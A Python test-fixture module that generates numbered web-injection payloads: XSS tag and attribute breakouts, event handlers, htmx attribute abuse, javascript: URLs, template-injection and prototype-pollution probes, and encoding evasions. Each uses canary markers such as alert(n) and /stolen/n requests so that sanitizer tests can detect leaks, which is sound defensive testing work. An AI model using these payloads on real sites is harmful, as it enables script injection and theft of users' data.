"""Four hundred texts that would run or ask something, were they ever taken for more than text.

Each would call ``alert(n)``, or ask for ``/stolen/n``, or leave an element or attribute named ``data-canary``: whichever
way one gets through, a test sees it.
"""

from __future__ import annotations

from collections.abc import Iterator
from itertools import count, product

BREAKS = (
    "",
    '">',
    "'>",
    "</textarea>",
    "</title>",
    "</script>",
    "-->",
    "</option></select>",
    "</style>",
    "</svg>",
    "</template>",
    "]]>",
    '"/>',
    "</a></li></ul>",
    "</noscript>",
)
BODIES = (
    "<script data-canary>alert({n})</script>",
    "<img data-canary src=/stolen/{n} onerror=alert({n})>",
    "<svg data-canary onload=alert({n})>",
    '<svg data-canary><script href="data:,alert({n})" /></svg>',
    "<iframe data-canary srcdoc='<script>parent.alert({n})</script>'></iframe>",
    "<details data-canary open ontoggle=alert({n})>x</details>",
    "<input data-canary autofocus onfocus=alert({n})>",
    '<b data-canary hx-get="/stolen/{n}" hx-trigger="load">x</b>',
    '<b data-canary hx-on:load="alert({n})" hx-post="/stolen/{n}" hx-trigger="load">x</b>',
    '<form data-canary action="/stolen/{n}"><input name=pin></form>',
    '<link data-canary rel=stylesheet href="/stolen/{n}">',
    '<meta data-canary http-equiv=refresh content="0;url=/stolen/{n}">',
)
EVENTS = (
    "onerror",
    "onload",
    "onfocus",
    "onmouseover",
    "onclick",
    "onanimationstart",
    "ontransitionend",
    "onpointerenter",
    "ontoggle",
    "onbeforeinput",
    "onscroll",
    "oncontentvisibilityautostatechange",
)
QUOTES = ('"', "'", "")
ORDERS = (
    'hx-get="/stolen/{n}"',
    'hx-post="/stolen/{n}"',
    'data-hx-get="/stolen/{n}"',
    'hx-on:load="alert({n})"',
    'hx-on::after:init="alert({n})"',
    "hx-vals='js:{{a: alert({n})}}'",
    'hx-swap-oob="outerHTML:body"',
    'hx-boost="true" href="/stolen/{n}"',
    'hx-sse:connect="/stolen/{n}"',
    'hx-config:inherited=\'{{"extensions":""}}\'',
    'hx-nonce="" hx-get="/stolen/{n}"',
    'hx-live="alert({n})"',
)
AROUND = (
    '" {order} hx-trigger="load" data-canary="',
    "' {order} hx-trigger='load' data-canary='",
    "<i data-canary {order} hx-trigger=load>x</i>",
    " {order} hx-trigger=load data-canary ",
)
IN_SCRIPTS = (
    '"}};alert({n})//',
    "'}};alert({n})//",
    '\\";alert({n})//',
    "\\';alert({n})//",
    '"-alert({n})-"',
    "'-alert({n})-'",
    "${{alert({n})}}",
    "`;alert({n})//",
    "*/alert({n})/*",
    "\u2028alert({n})",
    "\u2029alert({n})//",
    "<!--<script>alert({n})",
    '"}}]}}</script><script data-canary>alert({n})</script>',
    "\\u003cscript data-canary\\u003ealert({n})\\u003c/script\\u003e",
    "\\x3cscript data-canary\\x3ealert({n})",
    '{{"__proto__":{{"x":{n}}}}}',
    '","extensions":"","x":"{n}',
    '"],"constructor":{{"prototype":{{"x":"{n}',
    "&quot;}};alert({n})//",
    "&#34;}};alert({n})//",
)
ADDRESSES = (
    "javascript:alert({n})",
    "JaVaScRiPt:alert({n})",
    "java\tscript:alert({n})",
    " javascript:alert({n})",
    "javascript&colon;alert({n})",
    "data:text/html,<script data-canary>alert({n})</script>",
    "vbscript:alert({n})",
    "//example.invalid/stolen/{n}",
    "/\\example.invalid/stolen/{n}",
    "javascript://%0aalert({n})",
    "blob:alert({n})",
    "https://example.invalid@/stolen/{n}",
    "url(/stolen/{n})",
    "expression(alert({n}))",
    "@import '/stolen/{n}'",
    "x:y;background:url(/stolen/{n})",
)
TEMPLATES = (
    "{{{{ 7 * 191{n} }}}}",
    "{{% print(191{n}) %}}",
    "{{# {n} #}}",
    "{{{{ config }}}}{n}",
    "{{{{ ''.__class__.__mro__ }}}}{n}",
    "<%= 7 * {n} %>",
    "#{{7 * {n}}}",
    "%(name)s %s %d {n}",
    "{{0.__class__}} {n}",
    "{{name}} {{link}} {n}",
)
LETTERS = (
    "＜script data-canary＞alert({n})＜/script＞",
    "+ADw-script+AD4-alert({n})+ADw-/script+AD4-",
    "&lt;script data-canary&gt;alert({n})&lt;/script&gt;",
    "&#60;img data-canary src=/stolen/{n}&#62;",
    "&amp;lt;b data-canary&amp;gt;{n}",
    "%3Cscript data-canary%3Ealert({n})%3C/script%3E",
    "\u202e<b data-canary>{n}",
    "<\u200bimg data-canary src=/stolen/{n}>",
    "ſcript:alert({n})",
    "<ſcript data-canary>alert({n})</ſcript>",
    "<a\fdata-canary\nhref=/stolen/{n}>x",
    "<svg/data-canary/onload=alert({n})>",
    "<x data-canary/onclick=alert({n})>",
    "<b data-canary\r\nonclick=alert({n})>x</b>",
    "<b/data-canary>{n}",
    "<![CDATA[<img data-canary src=/stolen/{n}>]]>",
    "<?xml data-canary?><b data-canary>{n}</b>",
    "<math data-canary href=javascript:alert({n})>x</math>",
    "<object data-canary data=/stolen/{n}></object>",
    "<embed data-canary src=/stolen/{n}>",
    "<base data-canary href=//example.invalid/{n}/>",
    "<video data-canary poster=/stolen/{n}><source onerror=alert({n})></video>",
    "<audio data-canary src=/stolen/{n} onerror=alert({n})></audio>",
    "<style data-canary>@import '/stolen/{n}';</style>",
    "<template data-canary shadowrootmode=open><img src=/stolen/{n}></template>",
    "<dialog data-canary open onclose=alert({n})>x</dialog>",
    "<marquee data-canary onstart=alert({n})>x</marquee>",
    "<body data-canary onload=alert({n})>",
    "<htmx-partial data-canary hx-target=body><img src=/stolen/{n}></htmx-partial>",
    "<hx-partial data-canary hx-target=body>{n}</hx-partial>",
    "<button data-canary formaction=/stolen/{n} autofocus onfocus=alert({n})>x</button>",
    "<isindex data-canary type=image src=/stolen/{n} onerror=alert({n})>",
)


def _shapes() -> Iterator[str]:
    yield from (before + body for before, body in product(BREAKS, BODIES))
    yield from (f"x{q} {event}={q}alert({{n}}){q} data-canary={q}" for q, event in product(QUOTES, EVENTS))
    yield from (f"{event}=alert({{n}})//{q}{{n}}" for q, event in product(QUOTES, EVENTS))
    yield from (around.replace("{order}", order) for around, order in product(AROUND, ORDERS))
    yield from (*IN_SCRIPTS, *ADDRESSES, *TEMPLATES, *LETTERS)
    yield from (q + text for q, text in product(QUOTES[:2], ADDRESSES))


def payloads() -> list[str]:
    """Return all of them, each with a number of its own."""
    return [shape.format(n=n) for shape, n in zip(_shapes(), count(1000), strict=False)]
